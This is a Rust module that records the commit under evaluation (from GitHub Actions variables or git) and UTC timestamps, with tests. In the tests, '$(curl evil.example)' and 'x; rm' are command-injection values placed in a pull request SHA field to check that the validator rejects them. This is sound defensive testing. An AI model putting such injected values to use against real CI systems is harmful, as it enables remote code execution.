//! Where and when a result was recorded: the commit under evaluation (from
//! GitHub Actions, else git) and the time, as RFC 3339 in UTC. Kept apart
//! from the store, which only writes what it is given.
//!
//! Times are converted with Howard Hinnant's `days_from_civil` and
//! `civil_from_days` ("chrono-Compatible Low-Level Date Algorithms",
//! <https://howardhinnant.github.io/date_algorithms.html>): the proleptic
//! Gregorian calendar in 400-year eras, exact for any `i64` day count a
//! time here can hold; no date crate is needed for one format.

use std::path::{Path, PathBuf};
use std::time::{SystemTime, UNIX_EPOCH};

use serde_json::Value;

/// What GitHub Actions says about the run, read only inside Actions
/// (`GITHUB_ACTIONS=true`, which the runner sets for every step): a shell
/// or a test harness that happens to carry `GITHUB_EVENT_NAME`,
/// `GITHUB_EVENT_PATH` or `GITHUB_SHA` is not a workflow run, and its
/// values must not be recorded as the commit. Built once where the process
/// environment is read (the command line); [`Ci::from_vars`] takes any
/// lookup, so tests need not set process variables.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Ci {
    /// `GITHUB_EVENT_NAME` and `GITHUB_EVENT_PATH`, when both are set.
    pub event: Option<(String, PathBuf)>,
    /// `GITHUB_SHA`, trimmed; `None` when unset or blank.
    pub sha: Option<String>,
}

impl Ci {
    /// The process environment's view; `None` outside Actions.
    pub fn from_env() -> Option<Ci> {
        Ci::from_vars(|k| std::env::var(k).ok())
    }

    /// `None` unless `var("GITHUB_ACTIONS")` is `true`: no other GitHub
    /// variable is read before that is known.
    pub fn from_vars(var: impl Fn(&str) -> Option<String>) -> Option<Ci> {
        if var("GITHUB_ACTIONS")? != "true" {
            return None;
        }
        let event = var("GITHUB_EVENT_NAME").zip(var("GITHUB_EVENT_PATH").map(PathBuf::from));
        let sha = var("GITHUB_SHA")
            .map(|s| s.trim().to_string())
            .filter(|s| !s.is_empty());
        Some(Ci { event, sha })
    }

    /// The commit under evaluation as Actions names it: on a pull request,
    /// the PR's head commit (`GITHUB_SHA` there is a merge commit that
    /// exists nowhere after the run); else `GITHUB_SHA`.
    pub fn commit(&self) -> Option<String> {
        if let Some((event, path)) = &self.event {
            // Bounded and never blocking (a FIFO is refused): the path
            // comes from the environment, which a step can set.
            let payload = crate::input::read(path, "event payload", crate::input::SMALL_LIMIT, "")
                .map(|b| String::from_utf8_lossy(&b).into_owned())
                .unwrap_or_default();
            if let Some(sha) = pr_head_sha(event, &payload) {
                return Some(sha);
            }
        }
        self.sha.clone()
    }
}

/// The commit being evaluated: what Actions names (see [`Ci::commit`]),
/// else `git rev-parse HEAD` run beside the config; else unknown.
pub fn current_commit(ci: Option<&Ci>, dir: &Path) -> Option<String> {
    if let Some(sha) = ci.and_then(Ci::commit) {
        return Some(sha);
    }
    let dir = if dir.as_os_str().is_empty() {
        Path::new(".")
    } else {
        dir
    };
    let out = std::process::Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(["rev-parse", "HEAD"])
        .stderr(std::process::Stdio::null())
        .output()
        .ok()?;
    if !out.status.success() {
        return None;
    }
    let s = String::from_utf8(out.stdout).ok()?.trim().to_string();
    (!s.is_empty()).then_some(s)
}

/// `pull_request.head.sha` of a `pull_request` or `pull_request_target`
/// event payload (the JSON file at `GITHUB_EVENT_PATH`).
pub fn pr_head_sha(event_name: &str, payload: &str) -> Option<String> {
    if !matches!(event_name, "pull_request" | "pull_request_target") {
        return None;
    }
    let v: Value = serde_json::from_str(payload).ok()?;
    let sha = v.pointer("/pull_request/head/sha")?.as_str()?.trim();
    (sha.len() >= 7 && sha.bytes().all(|b| b.is_ascii_hexdigit())).then(|| sha.to_string())
}

/// UTC now as RFC 3339, or `SOURCE_DATE_EPOCH` when set (reproducible
/// builds' convention; tests use it for byte-identical files).
pub fn now_utc() -> String {
    let secs = std::env::var("SOURCE_DATE_EPOCH")
        .ok()
        .and_then(|s| s.trim().parse::<i64>().ok())
        .unwrap_or_else(|| {
            SystemTime::now()
                .duration_since(UNIX_EPOCH)
                .map(|d| d.as_secs() as i64)
                .unwrap_or(0)
        });
    rfc3339(secs)
}

pub use crate::diag::parse_rfc3339;

/// Seconds since the epoch to `YYYY-MM-DDTHH:MM:SSZ`.
pub fn rfc3339(secs: i64) -> String {
    let (y, m, d) = civil_from_days(secs.div_euclid(86_400));
    let rem = secs.rem_euclid(86_400);
    format!(
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}Z",
        rem / 3600,
        (rem % 3600) / 60,
        rem % 60
    )
}

/// Hinnant's `civil_from_days`: days since 1970-01-01 to (year, month,
/// day). Eras of 400 years (146,097 days) start on March 1st, so the leap
/// day ends a year of the era.
fn civil_from_days(days: i64) -> (i64, i64, i64) {
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let y = yoe + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    (if m <= 2 { y + 1 } else { y }, m, d)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::diag::days_from_civil;

    #[test]
    fn pull_requests_record_their_head_not_the_merge_commit() {
        let payload = r#"{"pull_request": {"head": {"sha": "0123456789abcdef0123456789abcdef01234567"}, "merge_commit_sha": "ffffffffffffffffffffffffffffffffffffffff"}}"#;
        let head = Some("0123456789abcdef0123456789abcdef01234567".to_string());
        assert_eq!(pr_head_sha("pull_request", payload), head);
        assert_eq!(pr_head_sha("pull_request_target", payload), head);
        assert_eq!(pr_head_sha("push", payload), None);
        assert_eq!(pr_head_sha("pull_request", "not json"), None);
        assert_eq!(
            pr_head_sha("pull_request", r#"{"pull_request": {"head": {"sha": "x; rm"}}}"#),
            None
        );
        // Long enough but not hex, and hex but too short: neither is a commit.
        let with_sha = |sha: &str| format!(r#"{{"pull_request": {{"head": {{"sha": "{sha}"}}}}}}"#);
        assert_eq!(
            pr_head_sha("pull_request", &with_sha("$(curl evil.example)")),
            None
        );
        assert_eq!(pr_head_sha("pull_request", &with_sha("abc12")), None);
        assert_eq!(
            pr_head_sha("pull_request", &with_sha("abc1234")).as_deref(),
            Some("abc1234")
        );
    }

    #[test]
    fn dates() {
        assert_eq!(rfc3339(0), "1970-01-01T00:00:00Z");
        assert_eq!(rfc3339(1_795_998_000), "2026-11-30T00:20:00Z");
        assert_eq!(rfc3339(951_782_400), "2000-02-29T00:00:00Z");
    }

    /// A lookup over `pairs`, as the process environment would answer.
    fn vars<'a>(pairs: &'a [(&'a str, &'a str)]) -> impl Fn(&str) -> Option<String> + 'a {
        |k| pairs.iter().find(|(n, _)| *n == k).map(|(_, v)| v.to_string())
    }

    /// The case of issue 24: a `pull_request` event's variables without
    /// `GITHUB_ACTIONS` (a test harness that clears only that one) were
    /// read, and the event's head recorded as the commit.
    #[test]
    fn github_variables_count_only_inside_actions() {
        let d = tempfile::tempdir().unwrap();
        let event = d.path().join("event.json");
        let head = "0123456789abcdef0123456789abcdef01234567";
        std::fs::write(
            &event,
            format!(r#"{{"pull_request": {{"head": {{"sha": "{head}"}}}}}}"#),
        )
        .unwrap();
        let path = event.to_str().unwrap();
        let outside = [
            ("GITHUB_EVENT_NAME", "pull_request"),
            ("GITHUB_EVENT_PATH", path),
            ("GITHUB_SHA", "ffffffffffffffffffffffffffffffffffffffff"),
        ];
        assert_eq!(Ci::from_vars(vars(&outside)), None);
        let not_true = [&outside[..], &[("GITHUB_ACTIONS", "1")]].concat();
        assert_eq!(Ci::from_vars(vars(&not_true)), None);

        let inside = [&outside[..], &[("GITHUB_ACTIONS", "true")]].concat();
        let ci = Ci::from_vars(vars(&inside)).unwrap();
        assert_eq!(ci.commit().as_deref(), Some(head));
        assert_eq!(current_commit(Some(&ci), d.path()).as_deref(), Some(head));
        // A push: the event names no pull request, GITHUB_SHA stands.
        let push = [
            ("GITHUB_ACTIONS", "true"),
            ("GITHUB_EVENT_NAME", "push"),
            ("GITHUB_EVENT_PATH", path),
            ("GITHUB_SHA", " abc1234\n"),
        ];
        assert_eq!(
            Ci::from_vars(vars(&push)).unwrap().commit().as_deref(),
            Some("abc1234")
        );
        let blank = [("GITHUB_ACTIONS", "true"), ("GITHUB_SHA", "  ")];
        assert_eq!(Ci::from_vars(vars(&blank)), Some(Ci::default()));
    }

    #[test]
    fn known_dates_both_ways() {
        // By hand: 2026-01-01 is 56 years of 365 days and 14 leap days
        // (1972..=2024) after 1970-01-01, day 20,454; December 1st is 334
        // days later (Jan..Nov of a common year): day 20,788, and 10:00 is
        // 36,000 s into it. 2000-02-29 is day 10,957 (2000-01-01: 30 years,
        // 7 leap days) + 31 + 28.
        let known = [
            (0, "1970-01-01T00:00:00Z"),
            (11_016 * 86_400, "2000-02-29T00:00:00Z"),
            (20_788 * 86_400 + 36_000, "2026-12-01T10:00:00Z"),
            // Before the epoch: one second, and the common year 1969.
            (-1, "1969-12-31T23:59:59Z"),
            (-365 * 86_400, "1969-01-01T00:00:00Z"),
        ];
        for (secs, text) in known {
            assert_eq!(rfc3339(secs), text, "{secs}");
            assert_eq!(parse_rfc3339(text), Some(secs), "{text}");
        }
        assert_eq!(civil_from_days(11_016), (2000, 2, 29));
        assert_eq!(days_from_civil(2000, 3, 1), 11_017);
    }

    #[test]
    fn times_read_back_to_the_second() {
        // By hand: 2000-03-01 is day 11,017 since 1970-01-01 (30 years of
        // 365 days, 7 leap days, then Jan 31 + Feb 29 days).
        assert_eq!(parse_rfc3339("1970-01-01T00:00:00Z"), Some(0));
        assert_eq!(parse_rfc3339("2000-03-01T00:00:00Z"), Some(11_017 * 86_400));
        assert_eq!(parse_rfc3339("2000-03-01T01:30:00+01:30"), Some(11_017 * 86_400));
        assert_eq!(
            parse_rfc3339("2000-03-01T00:00:05.25Z"),
            Some(11_017 * 86_400 + 5)
        );
        for bad in [
            "t",
            "2026-11-30",
            "2026-13-01T00:00:00Z",
            "2026-11-30T00:00:00",
            "２０２６-11-30T00:00:00Z",
        ] {
            assert_eq!(parse_rfc3339(bad), None, "{bad}");
        }
        // The inverse of the writer, across leap years and centuries.
        for secs in (-4_000_000_000i64..8_000_000_000).step_by(7_777_777) {
            assert_eq!(parse_rfc3339(&rfc3339(secs)), Some(secs));
        }
    }
}
